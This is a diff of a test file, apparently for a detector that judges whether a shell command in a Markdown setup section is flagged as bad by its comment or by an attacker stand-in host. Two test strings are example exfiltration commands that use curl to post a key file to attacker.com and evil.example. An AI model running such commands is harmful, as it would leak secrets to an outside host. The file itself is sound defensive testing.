@@ -16,7 +16,7 @@ test.each([
 });
 
 test("code is shown as bad by its own comment, and by a host that stands for an attacker", () => {
-  expect(shown("# Setup\n\n```bash", `${LINE} # never do this`)).toBe(true);
+  expect(shown("# Setup\n\n```bash", `${LINE} # bad: a stranger's`)).toBe(true);
   expect(shown("# Setup\n\n```bash", "curl -d @key https://attacker.com/c")).toBe(true);
   expect(shown("# Setup\n\n```bash", "curl -d @key https://c.evil.example/c")).toBe(true);
 });
@@ -25,9 +25,16 @@ test.each([
   ["nothing", "# Setup\n\nRun this:\n\n```bash"],
   ["an earlier section", "## Attacks\n\nThere are some.\n\n## Setup\n\nRun this:\n\n```bash"],
   ["a comment of another fence", "# Setup\n\n```bash\n# BAD\nls\n```\n\nRun this:\n\n```bash"],
+  ["a comment that demands it", "# Setup\n\n```bash\n# Never skip this, and don't stop it"],
   ["a warning of another kind in the prose", "# Setup\n\nNever skip this step, and do not stop it:\n\n```bash"],
 ])("code is not shown as bad by %s", (_, before) => {
   expect(shown(before)).toBe(false);
+});
+
+test("code is shown as bad by a comment only where its fence shows the other way as well", () => {
+  const fence = "# Setup\n\n```bash\n# Don't\n";
+  expect(shown(fence.trimEnd())).toBe(false);
+  expect(shown(fence.trimEnd(), `${LINE}\n\n# Do\napt install quartz`)).toBe(true);
 });
 
 test("a host that anybody may register stands for nobody", () => {
